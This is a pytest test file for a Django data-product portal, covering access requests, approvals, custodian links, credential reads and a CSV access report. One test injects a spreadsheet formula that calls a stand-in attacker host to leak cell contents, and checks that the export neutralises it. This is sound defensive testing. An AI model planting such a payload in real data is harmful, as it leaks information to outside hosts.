"""The pages of access: a product's ports and access, the platform's access report and its CSV, the
data custodian's link, credentials with a reason, and the product page of an amended WID.

Driven as a browser without JavaScript drives them (plain GETs and form posts). No terraform:
provisioned products are rows, and Terraform's state is a stand-in where credentials are read.
"""
import csv
import io
import re
import time
from datetime import date, timedelta

import pytest
from django.contrib.messages import get_messages
from django.core import signing

from onboarding.models import Product
from portal.work.models import Delivery
from provisioning import access, services
from provisioning.models import AccessEvent, AccessRequest, CredentialRead, Provisioning
from tests.factories import UserFactory, member_of
from tests.provisioning.test_access import approved_product

pytestmark = pytest.mark.django_db

UNTIL = date.today() + timedelta(days=30)
PORTS = [{"name": "orders", "kind": "table"}, {"name": "daily", "kind": "feed"}, {"name": "board", "kind": "dashboard"}]


@pytest.fixture
def producer_team():
    from tests.factories import TeamFactory

    return TeamFactory(slug="orders-team")


@pytest.fixture
def producer_owner(producer_team):
    return member_of(producer_team, role="owner", username="olga", email="olga@example.com")


@pytest.fixture
def producer_member(producer_team):
    return member_of(producer_team, username="mick")


@pytest.fixture
def web(client):
    """`web(user)`: the test client signed in as `user` (None: anonymous)."""
    def signed_in(user):
        client.logout()
        if user is not None:
            client.force_login(user)
        return client
    return signed_in


def orders_core(owner, team, **overrides) -> Product:
    return approved_product(owner, team, "orders-core", outputs=PORTS, **overrides)


def ask_on_the_page(web, user, purpose="Churn study", until=UNTIL):
    return web(user).post("/products/orders-core/access/request/", {"purpose": purpose, "until": str(until)})


def texts(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def snapshot() -> tuple:
    return (list(AccessRequest.objects.order_by("pk").values_list("pk", "status", "owner_decision",
                                                                 "custodian_decision")),
            AccessEvent.objects.count())


class FakeState:
    """What Terraform's state holds for orders-core: its login, and a person's login by role name."""

    resources = ["storage"]

    def __init__(self, readers=()):
        values = {"warehouse_host": "127.0.0.1", "warehouse_port": 5433, "warehouse_database": "warehouse",
                  "storage_role": "orders_core", "storage_password": "team-s3cret", "storage_schema": "orders_core",
                  "published_schema": "pub_orders_core", "lake_path": "/lake/orders-core",
                  "reader_passwords": {name: f"pw-of-{name}" for name in readers}}
        self.outputs = {name: {"value": value} for name, value in values.items()}


# --- a product's ports and access ---------------------------------------------------------------
def test_anyone_signed_in_sees_the_ports_and_a_form_to_ask_but_not_the_report(web, producer_owner, producer_team,
                                                                              outsider):
    orders_core(producer_owner, producer_team)

    html = web(outsider).get("/products/orders-core/access/").content.decode()

    assert "pub_orders_core.orders" in html and "/orders-core/curated/daily/" in html
    assert "Request access" in html and 'name="purpose"' in html and 'name="until"' in html
    assert "Who can read it now" not in html and "Access history" not in html
    assert "Rotate credentials" not in html
    assert web(None).get("/products/orders-core/access/").status_code == 302  # to the login page


def test_a_person_asks_from_the_page_and_the_owner_sees_it_with_approve_and_reject(web, producer_owner,
                                                                                  producer_team, outsider):
    orders_core(producer_owner, producer_team)

    response = ask_on_the_page(web, outsider, purpose="Churn <b>study</b>")

    assert response.status_code == 302 and response["Location"] == "/products/orders-core/access/"
    made = AccessRequest.objects.get()
    assert (made.requester, made.purpose, made.until, made.status) == (outsider, "Churn <b>study</b>", UNTIL, "pending")
    mine = web(outsider).get("/products/orders-core/access/").content.decode()
    assert f"Your request #{made.pk} is <strong>pending</strong>" in mine and 'name="purpose"' not in mine
    html = web(producer_owner).get("/products/orders-core/access/").content.decode()
    assert f"/access/requests/{made.pk}/approve/" in html and f"/access/requests/{made.pk}/reject/" in html
    assert "Churn &lt;b&gt;study&lt;/b&gt;" in html and "<b>study" not in html
    assert "Who can read it now" in html and "Access history" in html and "Rotate credentials" in html


def test_a_bad_until_on_the_page_names_it_and_writes_nothing(web, producer_owner, producer_team, outsider):
    orders_core(producer_owner, producer_team)

    response = ask_on_the_page(web, outsider, until=date.today() - timedelta(days=1))

    assert response.status_code == 302
    assert any(text.startswith("Until: ") for text in texts(response)), texts(response)
    assert snapshot() == ([], 0)


def test_an_owner_approves_from_the_page(web, producer_owner, producer_team, outsider):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)
    made = AccessRequest.objects.get()

    response = web(producer_owner).post(f"/access/requests/{made.pk}/approve/", {"comment": "Fine"})

    assert response.status_code == 302 and response["Location"] == "/products/orders-core/access/"
    made.refresh_from_db()
    assert (made.status, made.owner_decided_by, made.owner_comment) == ("approved", producer_owner, "Fine")
    html = web(producer_owner).get("/products/orders-core/access/").content.decode()
    assert f"<code>{made.role_name}</code>" in html and f"until {UNTIL}" in html  # who can read it now


@pytest.mark.parametrize("who", ["producer_member", "outsider", "platform"])
def test_anyone_but_an_owner_is_refused_approving_and_nothing_changes(web, producer_owner, producer_team, outsider,
                                                                     who, request):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)
    made = AccessRequest.objects.get()
    before = snapshot()
    user = request.getfixturevalue(who)

    for action in ("approve", "reject"):
        assert web(user).post(f"/access/requests/{made.pk}/{action}/", {"comment": "x"}).status_code == 403
    assert snapshot() == before
    html = web(user).get("/products/orders-core/access/").content.decode()
    assert f"/access/requests/{made.pk}/approve/" not in html


def test_a_reject_without_a_comment_is_refused_naming_it(web, producer_owner, producer_team, outsider):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)
    made = AccessRequest.objects.get()
    before = snapshot()

    response = web(producer_owner).post(f"/access/requests/{made.pk}/reject/", {"comment": " "})

    assert response.status_code == 302 and any(text.startswith("Comment: ") for text in texts(response))
    assert snapshot() == before


def test_the_requester_revokes_their_own_access_from_the_page(web, producer_owner, producer_team, outsider):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)
    made = AccessRequest.objects.get()
    assert f"/access/requests/{made.pk}/revoke/" in web(outsider).get("/products/orders-core/access/").content.decode()

    assert web(outsider).post(f"/access/requests/{made.pk}/revoke/", {"comment": "Done"}).status_code == 302

    made.refresh_from_db()
    assert made.status == "revoked"
    assert AccessEvent.objects.filter(kind="revoked", actor=outsider.username).exists()


def test_an_unknown_action_or_request_is_not_found(web, producer_owner, producer_team, outsider):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)
    made = AccessRequest.objects.get()

    assert web(producer_owner).post(f"/access/requests/{made.pk}/grant/").status_code == 404
    assert web(producer_owner).post("/access/requests/999999/approve/").status_code == 404
    assert web(producer_owner).get(f"/access/requests/{made.pk}/approve/").status_code == 405


def test_rotation_from_the_page_is_for_the_team_and_the_platform(web, producer_owner, producer_team, outsider,
                                                                 platform):
    product = orders_core(producer_owner, producer_team)

    assert web(outsider).post("/products/orders-core/credentials/rotate/").status_code == 403
    assert Provisioning.objects.get(product=product).password_generation == 0

    for user, generation in ((producer_owner, 1), (platform, 2)):
        response = web(user).post("/products/orders-core/credentials/rotate/")
        assert response.status_code == 302 and response["Location"] == "/products/orders-core/access/"
        assert Provisioning.objects.get(product=product).password_generation == generation
    assert AccessEvent.objects.filter(kind="rotated").count() == 2


# --- the platform's access report ---------------------------------------------------------------
def test_the_access_report_is_the_platforms(web, producer_owner, producer_team, outsider, platform):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)

    for user in (outsider, producer_owner):
        assert web(user).get("/access/").status_code == 403
        assert web(user).get("/access/?format=csv").status_code == 403
        assert 'href="/access/"' not in web(user).get("/products/").content.decode()  # no "Access" link
    response = web(platform).get("/access/")
    assert response.status_code == 200
    assert "Churn study" in response.content.decode()
    assert 'href="/access/"' in web(platform).get("/products/").content.decode()


def test_the_report_filters_and_bad_input_is_a_400_naming_the_field(web, producer_owner, producer_team, outsider,
                                                                    platform):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)
    web(producer_owner).post(f"/access/requests/{AccessRequest.objects.get().pk}/reject/", {"comment": "Not now"})

    only_rejected = web(platform).get("/access/?kind=rejected").content.decode()
    assert "Not now" in only_rejected and "Churn study" not in only_rejected
    assert "Churn study" in web(platform).get(f"/access/?subject={outsider.username}&product=orders-core").content.decode()
    assert "No event matches" in web(platform).get(f"/access/?since={date.today() + timedelta(days=1)}").content.decode()

    for query, field in (("since=yesterday", "since"), ("kind=nonsense", "kind"), ("team=nobody", "team"),
                         ("product=no-such-product", "product"), ("subject=a%07b", "subject"),
                         (f"since={date.today()}&until={date.today() - timedelta(days=1)}", "until")):
        response = web(platform).get(f"/access/?{query}")
        assert response.status_code == 400, query
        assert f'id="id_{field}_error"' in response.content.decode(), query
        assert web(platform).get(f"/access/?{query}&format=csv").status_code == 400, query


def test_the_csv_has_the_header_the_filter_and_neutralised_formulas(web, producer_owner, producer_team, platform):
    orders_core(producer_owner, producer_team)
    eve = UserFactory(username="@eve")
    ask_on_the_page(web, eve, purpose='=HYPERLINK("http://evil.example/?"&A1,"click")')
    web(producer_owner).post(f"/access/requests/{AccessRequest.objects.get().pk}/approve/", {"comment": "+1"})

    response = web(platform).get("/access/?kind=requested&format=csv")

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["at", "product", "team", "kind", "subject_kind", "subject", "actor", "detail", "request"]
    assert len(rows) == 2  # the filter holds: the approval is left out
    row = dict(zip(rows[0], rows[1]))
    assert (row["product"], row["team"], row["kind"], row["subject_kind"]) == ("orders-core", "orders-team",
                                                                               "requested", "person")
    assert row["subject"] == row["actor"] == "'@eve"
    assert row["detail"].startswith("'=HYPERLINK(")
    assert row["request"] == str(AccessRequest.objects.get().pk)
    every = list(csv.reader(io.StringIO(b"".join(web(platform).get("/access/?format=csv").streaming_content).decode())))
    assert [r[3] for r in every[1:]] == ["approved", "requested"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in every for cell in r)


def test_the_report_is_paginated(web, producer_owner, producer_team, platform):
    product = orders_core(producer_owner, producer_team)
    AccessEvent.objects.bulk_create([AccessEvent(product=product, kind="credentials_read", subject_kind="person",
                                                 subject="olga", actor="olga", detail=f"read {n}") for n in range(60)])

    first = web(platform).get("/access/?kind=credentials_read").content.decode()
    second = web(platform).get("/access/?kind=credentials_read&page=2").content.decode()

    assert "60 events" in first and "Page 1 of 2" in first and "kind=credentials_read&amp;page=2" in first
    assert second.count("<td>person olga</td>") == 10


# --- the data custodian's link ------------------------------------------------------------------
def custodian_link(web, producer_owner, producer_team, outsider) -> str:
    """A PII producer's request approved by its owner: the link the custodian is e-mailed."""
    orders_core(producer_owner, producer_team, pii=True)
    ask_on_the_page(web, outsider, purpose="Churn study for Q3")
    web(producer_owner).post(f"/access/requests/{AccessRequest.objects.get().pk}/approve/", {"comment": "ok"})
    mail = Delivery.objects.filter(event="access.custodian").get()
    return re.search(r"https?://[^/\s]+(/access/custodian/[^/\s]+/)", mail.payload["body"]).group(1)


def test_the_custodian_decides_without_an_account_once(web, producer_owner, producer_team, outsider):
    link = custodian_link(web, producer_owner, producer_team, outsider)
    before = snapshot()

    shown = web(None).get(link)

    assert shown.status_code == 200 and shown["Cache-Control"] == "no-store"
    html = shown.content.decode()
    assert "Churn study for Q3" in html and outsider.username in html and str(UNTIL) in html
    assert 'value="approve"' in html and 'value="reject"' in html
    assert snapshot() == before  # mail scanners open links: a GET decides nothing
    assert web(None).get(link).status_code == 200

    decided = web(None).post(link, {"decision": "approve", "comment": "Purpose is fine"})

    assert decided.status_code == 200 and "you approved access request" in decided.content.decode()
    made = AccessRequest.objects.get()
    assert (made.status, made.custodian_decision, made.custodian_comment) == ("approved", "approved", "Purpose is fine")
    after = snapshot()
    again = web(None).post(link, {"decision": "reject", "comment": "changed my mind"})
    assert again.status_code == 409 and "already decided" in again.content.decode()
    assert web(None).get(link).status_code == 409
    assert snapshot() == after


def test_a_custodian_rejection_needs_a_comment(web, producer_owner, producer_team, outsider):
    link = custodian_link(web, producer_owner, producer_team, outsider)
    before = snapshot()

    response = web(None).post(link, {"decision": "reject", "comment": ""})

    assert response.status_code == 400 and 'id="id_comment_error"' in response.content.decode()
    assert snapshot() == before
    assert web(None).post(link, {"decision": "reject", "comment": "No"}).status_code == 200
    assert AccessRequest.objects.get().status == "rejected"


def test_a_forged_custodian_link_is_not_found_and_changes_nothing(web, producer_owner, producer_team, outsider):
    link = custodian_link(web, producer_owner, producer_team, outsider)
    made = AccessRequest.objects.get()
    before = snapshot()
    forged = signing.dumps({"request": made.pk, "email": "mallory@example.com"}, salt=access.CUSTODIAN_SALT)
    tampered = link[:-3] + ("A" if link[-3] != "A" else "B") + link[-2:]

    for path in (f"/access/custodian/{forged}/", tampered, "/access/custodian/not-a-token/"):
        assert web(None).get(path).status_code == 404, path
        response = web(None).post(path, {"decision": "approve"})
        assert response.status_code == 404 and "not valid" in response.content.decode(), path
    assert snapshot() == before


def test_an_expired_custodian_link_is_a_conflict(web, producer_owner, producer_team, outsider, monkeypatch):
    custodian_link(web, producer_owner, producer_team, outsider)
    made = AccessRequest.objects.get()
    now = time.time()
    monkeypatch.setattr(signing.time, "time", lambda: now - 8 * 86400)  # the link was sent 8 days ago
    old = access.custodian_token(made)
    monkeypatch.undo()
    before = snapshot()

    assert web(None).get(f"/access/custodian/{old}/").status_code == 409
    response = web(None).post(f"/access/custodian/{old}/", {"decision": "approve"})

    assert response.status_code == 409 and "expired" in response.content.decode()
    assert snapshot() == before


# --- credentials --------------------------------------------------------------------------------
@pytest.fixture
def state(monkeypatch):
    def stand_in(readers=()):
        monkeypatch.setattr(services.terraform, "read_state", lambda *args, **kwargs: FakeState(readers))
    stand_in()
    return stand_in


def test_credentials_of_a_pii_product_ask_for_a_reason_first(web, producer_owner, producer_team, state):
    orders_core(producer_owner, producer_team, pii=True)

    asked = web(producer_owner).get("/products/orders-core/credentials/")

    assert asked.status_code == 200
    html = asked.content.decode()
    assert 'name="reason"' in html and "recorded" in html and "data custodian" in html
    assert "team-s3cret" not in html and not CredentialRead.objects.exists()
    assert web(producer_owner).get("/products/orders-core/credentials/?reason=%20").status_code == 400

    shown = web(producer_owner).get("/products/orders-core/credentials/?reason=nightly+fix")

    assert shown.status_code == 200 and shown["Cache-Control"] == "no-store"
    assert "team-s3cret" in shown.content.decode()
    assert CredentialRead.objects.get().reason == "nightly fix"


def test_a_person_with_approved_access_reads_their_own_login_from_the_page(web, producer_owner, producer_team,
                                                                          outsider, state):
    orders_core(producer_owner, producer_team)
    ask_on_the_page(web, outsider)
    made = AccessRequest.objects.get()
    web(producer_owner).post(f"/access/requests/{made.pk}/approve/")
    state(readers=[made.role_name])
    assert "Your personal login" in web(outsider).get("/products/orders-core/access/").content.decode()

    html = web(outsider).get("/products/orders-core/credentials/").content.decode()

    assert f"<code>{made.role_name}</code>" in html and f"pw-of-{made.role_name}" in html
    assert "a personal login" in html.lower() and f"valid until {UNTIL}" in html
    assert "team-s3cret" not in html and "/lake/orders-core" not in html
    assert CredentialRead.objects.get().kind == "personal"


# --- the product page of an amended WID ---------------------------------------------------------
def test_the_product_page_shows_the_live_version_and_the_open_amendment(api, web, producer_owner, producer_team,
                                                                        outsider):
    product = orders_core(producer_owner, producer_team)
    live = product.approved_version
    page = web(producer_owner).get("/products/orders-core/").content.decode()
    assert f"Live: version {live}</strong>" in page and "Withdraw amendment" not in page
    assert "Editing opens an amendment" in page and 'href="/products/orders-core/access/"' in page
    form = web(producer_owner).get("/products/orders-core/edit/").content.decode()
    assert "saving opens an amendment" in form

    api(producer_owner).patch("/api/v1/products/orders-core/", {"version": product.version, "compute_tier": "medium"},
                              format="json")

    page = web(producer_owner).get("/products/orders-core/").content.decode()
    assert f"Live: version {live}; amendment in draft" in page and "Withdraw amendment" in page
    assert "Withdraw amendment" not in web(outsider).get("/products/orders-core/").content.decode()
    assert web(outsider).post("/products/orders-core/withdraw/").status_code == 403
    assert Product.objects.get(slug="orders-core").status == "draft"

    response = web(producer_owner).post("/products/orders-core/withdraw/", {"comment": "Not now"})

    assert response.status_code == 302
    product.refresh_from_db()
    assert (product.status, product.approved_version, product.compute_tier) == ("approved", live, "small")
    page = web(producer_owner).get("/products/orders-core/").content.decode()
    assert f"Live: version {live}</strong>" in page and "amendment in" not in page


def test_an_amendment_under_review_says_so_and_is_judged_against_the_live_version(api, web, producer_owner,
                                                                                 producer_team, platform):
    product = orders_core(producer_owner, producer_team)
    api(producer_owner).patch("/api/v1/products/orders-core/", {"version": product.version, "compute_tier": "large"},
                              format="json")
    api(producer_owner).post("/api/v1/products/orders-core/submit/", {}, format="json")

    page = web(platform).get("/products/orders-core/").content.decode()

    assert f"Live: version {product.approved_version}; amendment in submitted" in page
    assert "the amendment needs a platform decision: compute tier rises to large" in page
